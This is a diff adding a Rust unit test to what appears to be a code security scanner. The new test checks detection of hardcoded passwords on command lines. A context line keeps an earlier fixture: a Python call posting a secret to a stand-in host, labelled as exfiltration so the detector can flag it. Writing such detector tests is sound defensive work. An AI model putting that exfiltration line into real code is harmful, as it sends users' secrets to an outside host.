@@ -109,3 +109,12 @@ fn markdown_code_blocks_are_parsed_by_their_label() {
               requests.post('https://c.example.net', data=secret)\n```\n";
     assert_eq!(chain("SKILL.md", md, "exfiltration"), Some((Some(5), 6)));
 }
+
+#[test]
+fn literal_passwords_on_command_lines() {
+    let code = "import subprocess\nsubprocess.run(['dbtool', '--user=r', '--password=Wint3rSun'], check=True)\n";
+    assert_eq!(ids("x.py", code), ["hardcoded-credential"]);
+    assert!(ids("x.sh", "pg_dump --password=\"$PGPASSWORD\" db > out.sql\n").is_empty());
+    assert!(ids("x.sh", "mysql -u root --password=secret -e 'select 1'\n").is_empty());
+    assert!(ids("x.sh", "tool login --password-stdin < token.txt\n").is_empty());
+}
